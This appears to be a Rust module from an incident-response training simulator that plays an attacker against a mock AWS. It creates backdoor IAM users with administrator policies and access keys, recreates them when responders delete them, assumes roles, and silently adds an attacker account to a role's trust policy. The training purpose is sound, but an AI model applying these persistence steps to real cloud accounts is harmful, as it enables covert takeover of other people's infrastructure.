//! Persistence: backdoor users, their keys and policies, and role sessions.

use super::*;

impl Engine<'_> {
    pub(super) async fn create_user(
        &mut self,
        who: Who,
        t: OffsetDateTime,
        ip: &str,
        agent: &str,
    ) -> Outcome<()> {
        let name = self.backdoor_user.clone();
        let base = events::create_user(t, &name, "", "", t).from(ip, agent);
        let base = Rec {
            response: serde_json::Value::Null,
            ..base
        };
        let account = self.account.clone();
        let (ip, agent) = (ip.to_string(), agent.to_string());
        let out = self
            .sub(
                who,
                "iam:CreateUser",
                &["iam:CreateUser"],
                base,
                |c| async move {
                    let out = c
                        .iam()
                        .create_user()
                        .user_name(&name)
                        .send()
                        .await
                        .sent("iam:CreateUser")?;
                    let user = out.user();
                    let id = user.map(|u| u.user_id().to_string()).unwrap_or_default();
                    let arn = user
                        .map(|u| u.arn().to_string())
                        .unwrap_or_else(|| format!("arn:aws:iam::{account}:user/{name}"));
                    let call = events::create_user(t, &name, &id, &arn, t).from(&ip, &agent);
                    Ok((call, format!("user {name}"), id))
                },
            )
            .await;
        match out {
            Outcome::Done(id) => {
                self.backdoor_user_id = id;
                Outcome::Done(())
            }
            Outcome::Refused => Outcome::Refused,
            Outcome::Failed => Outcome::Failed,
        }
    }

    /// Whether the backdoor user is still there (the responder may have removed it).
    pub(super) async fn backdoor_exists(&self) -> bool {
        !self.backdoor_user.is_empty()
            && self
                .root
                .iam()
                .get_user()
                .user_name(&self.backdoor_user)
                .send()
                .await
                .is_ok()
    }

    /// A key for the backdoor user. During the game, when the responder removed the backdoor
    /// user, a new one is made first (user, key, admin policy) under the next name.
    pub(super) async fn persist(
        &mut self,
        who: Who,
        t: OffsetDateTime,
        ip: &str,
        agent: &str,
    ) -> Outcome<()> {
        if !self.backdoor_exists().await {
            let pool = self.scenario.attacker.backdoor_names.clone();
            let name = Self::pooled(&pool, self.next_backdoor);
            let previous = std::mem::replace(&mut self.backdoor_user, name);
            match self.create_user(who, t, ip, agent).await {
                Outcome::Done(()) => self.next_backdoor += 1,
                other => {
                    self.backdoor_user = previous;
                    return other;
                }
            }
            let policy =
                events::attach_user_policy(t, &self.backdoor_user, ADMIN_POLICY).from(ip, agent);
            let user = self.backdoor_user.clone();
            let attached = self
                .sub(
                    who,
                    "iam:AttachUserPolicy",
                    &["iam:AttachUserPolicy"],
                    policy.clone(),
                    |c| async move {
                        c.iam()
                            .attach_user_policy()
                            .user_name(&user)
                            .policy_arn(ADMIN_POLICY)
                            .send()
                            .await
                            .sent("iam:AttachUserPolicy")?;
                        Ok((policy, format!("AdministratorAccess on {user}"), ()))
                    },
                )
                .await;
            if !matches!(attached, Outcome::Done(())) {
                return attached;
            }
        }
        let user = self.backdoor_user.clone();
        let user_id = self.backdoor_user_id.clone();
        let base = events::create_access_key(t, &user, "", t).from(ip, agent);
        let base = Rec {
            response: serde_json::Value::Null,
            ..base
        };
        let (ip, agent) = (ip.to_string(), agent.to_string());
        let out = self
            .sub(
                who,
                "iam:CreateAccessKey",
                &["iam:CreateAccessKey"],
                base,
                |c| async move {
                    let out = c
                        .iam()
                        .create_access_key()
                        .user_name(&user)
                        .send()
                        .await
                        .sent("iam:CreateAccessKey")?;
                    let Some(k) = out.access_key() else {
                        return Err(Failure::other("iam:CreateAccessKey: moto returned no key"));
                    };
                    let creds = Creds {
                        user: user.clone(),
                        key_id: k.access_key_id().to_string(),
                        secret: k.secret_access_key().to_string(),
                    };
                    let call =
                        events::create_access_key(t, &user, &creds.key_id, t).from(&ip, &agent);
                    Ok((call, format!("key {} for {user}", creds.key_id), creds))
                },
            )
            .await;
        match out {
            Outcome::Done(creds) => {
                self.backdoors
                    .push(Ident::user(With::Backdoor, &creds, &user_id));
                Outcome::Done(())
            }
            Outcome::Refused => Outcome::Refused,
            Outcome::Failed => Outcome::Failed,
        }
    }

    pub(super) async fn assume_role(
        &mut self,
        who: Who,
        t: OffsetDateTime,
        region: &str,
        ip: &str,
        agent: &str,
    ) -> Outcome<()> {
        // From its own account it comes in through the role it opened; otherwise it takes
        // the deploy role.
        let role = match (who, &self.trust_role) {
            (Who::Outside, Some(r)) => r.clone(),
            _ => self.deploy_role.clone(),
        };
        let session = self.scenario.attacker.session_name.clone();
        let base = events::assume_role(
            t,
            region,
            &Minted {
                role_arn: &role.arn,
                role_id: &role.id,
                session: &session,
                key: "",
                token: "",
                duration: 3600,
            },
        )
        .from(ip, agent);
        let base = Rec {
            response: serde_json::Value::Null,
            ..base
        };
        // The role's trust policy must name the caller.
        let caller_arn = self
            .ident(who)
            .map(|i| i.actor(&self.account).arn)
            .unwrap_or_default();
        let trusted = authz::trusts(&self.root, &role.name, &caller_arn)
            .await
            .unwrap_or(false);
        if !trusted && matches!(self.refusal(who, &[], t, region).await, Ok(None)) {
            let (code, message) = (
                "AccessDenied".to_string(),
                format!(
                    "User: {caller_arn} is not authorized to perform: sts:AssumeRole on resource: {}",
                    role.arn
                ),
            );
            self.record(who, &base.failed(&code, &message));
            let key = self.ident(who).map(|i| i.key.clone()).unwrap_or_default();
            self.note(AttackerEvent {
                at: t,
                with: key,
                call: "sts:AssumeRole".into(),
                region: region.to_string(),
                ok: false,
                detail: format!("{code}: {message}"),
                code: Some(code),
            });
            return Outcome::Refused;
        }
        let r = region.to_string();
        let role_id = role.id.clone();
        let (ip, agent) = (ip.to_string(), agent.to_string());
        let out = self
            .sub(
                who,
                "sts:AssumeRole",
                &["sts:AssumeRole"],
                base,
                |c| async move {
                    let out = c
                        .sts(&r)
                        .assume_role()
                        .role_arn(&role.arn)
                        .role_session_name(&session)
                        .duration_seconds(3600)
                        .send()
                        .await
                        .sent("sts:AssumeRole")?;
                    let Some(k) = out.credentials() else {
                        return Err(Failure::other(
                            "sts:AssumeRole: moto returned no credentials",
                        ));
                    };
                    let s = SessionCreds {
                        role: role.name.clone(),
                        session_name: session.clone(),
                        key_id: k.access_key_id().to_string(),
                        secret: k.secret_access_key().to_string(),
                        token: k.session_token().to_string(),
                        issued: t,
                        expires: t + Duration::seconds(3600),
                    };
                    let call = events::assume_role(
                        t,
                        &r,
                        &Minted {
                            role_arn: &role.arn,
                            role_id: &role.id,
                            session: &session,
                            key: &s.key_id,
                            token: &s.token,
                            duration: 3600,
                        },
                    )
                    .from(&ip, &agent);
                    Ok((call, session_detail(&s.key_id, &role.name), s))
                },
            )
            .await;
        match out {
            Outcome::Done(s) => {
                self.session = Some(Ident::session(&s, &role_id));
                Outcome::Done(())
            }
            Outcome::Refused => Outcome::Refused,
            Outcome::Failed => Outcome::Failed,
        }
    }
}

impl Engine<'_> {
    /// Adds the attacker's own account to the trust of the scenario's `[trust]` role, keeping
    /// what it trusted before (nothing looks broken to the role's owners).
    pub(super) async fn open_trust(
        &mut self,
        who: Who,
        t: OffsetDateTime,
        ip: &str,
        agent: &str,
    ) -> Outcome<()> {
        let Some(door) = self.scenario.trust.clone() else {
            return Outcome::Failed;
        };
        let current = match authz::trust_document(&self.root, &door.role).await {
            Ok(d) => d,
            Err(e) => {
                tracing::warn!("game day: trust of {} unreadable: {e}", door.role);
                return Outcome::Failed;
            }
        };
        let document = with_account(&current, &door.account);
        let base = events::update_assume_role_policy(t, &door.role, &document).from(ip, agent);
        let role = door.role.clone();
        self.sub(
            who,
            "iam:UpdateAssumeRolePolicy",
            &["iam:UpdateAssumeRolePolicy"],
            base.clone(),
            |c| async move {
                c.iam()
                    .update_assume_role_policy()
                    .role_name(&role)
                    .policy_document(&document)
                    .send()
                    .await
                    .sent("iam:UpdateAssumeRolePolicy")?;
                Ok((base, format!("{role} now trusts {}", door.account), ()))
            },
        )
        .await
    }
}

/// A trust policy with one more statement letting `account` assume the role.
pub(crate) fn with_account(document: &str, account: &str) -> String {
    let mut doc: serde_json::Value = serde_json::from_str(document)
        .unwrap_or_else(|_| json!({"Version": "2012-10-17", "Statement": []}));
    let added = json!({
        "Effect": "Allow",
        "Principal": {"AWS": format!("arn:aws:iam::{account}:root")},
        "Action": "sts:AssumeRole",
    });
    match doc.get_mut("Statement") {
        Some(serde_json::Value::Array(list)) => list.push(added),
        Some(one) => {
            let first = one.take();
            *one = json!([first, added]);
        }
        None => doc["Statement"] = json!([added]),
    }
    doc.to_string()
}

/// How long the sessions the attacker mints last (it asks for an hour).
pub(crate) const SESSION_LIFE: Duration = Duration::hours(1);

/// What a minted session's event says: `session ASIA… as deploy-role`.
fn session_detail(key_id: &str, role: &str) -> String {
    format!("session {key_id} as {role}")
}

/// The session an `sts:AssumeRole` event minted, as (key id, role), when it worked.
pub(crate) fn minted_session(e: &AttackerEvent) -> Option<(String, String)> {
    if !e.ok || e.call != "sts:AssumeRole" {
        return None;
    }
    let rest = e.detail.strip_prefix("session ")?;
    let (key, role) = rest.split_once(" as ")?;
    Some((key.to_string(), role.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_minted_session_is_read_back_from_its_event() {
        let mut e = AttackerEvent {
            at: OffsetDateTime::UNIX_EPOCH,
            with: "AKIA".into(),
            call: "sts:AssumeRole".into(),
            region: "us-east-1".into(),
            ok: true,
            detail: session_detail("ASIAEXAMPLE", "deploy-role"),
            code: None,
        };
        assert_eq!(
            minted_session(&e),
            Some(("ASIAEXAMPLE".into(), "deploy-role".into()))
        );
        e.ok = false;
        assert_eq!(minted_session(&e), None);
    }

    #[test]
    fn the_attacker_s_account_is_added_to_the_trust_beside_what_was_there() {
        let before = r#"{"Version":"2012-10-17","Statement":{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::123456789012:user/ci-deploy"},"Action":"sts:AssumeRole"}}"#;
        let after: serde_json::Value =
            serde_json::from_str(&with_account(before, "999988887777")).expect("json");
        let list = after["Statement"].as_array().expect("a list");
        assert_eq!(list.len(), 2);
        assert_eq!(
            list[0]["Principal"]["AWS"],
            "arn:aws:iam::123456789012:user/ci-deploy"
        );
        assert_eq!(
            list[1]["Principal"]["AWS"],
            "arn:aws:iam::999988887777:root"
        );
    }
}
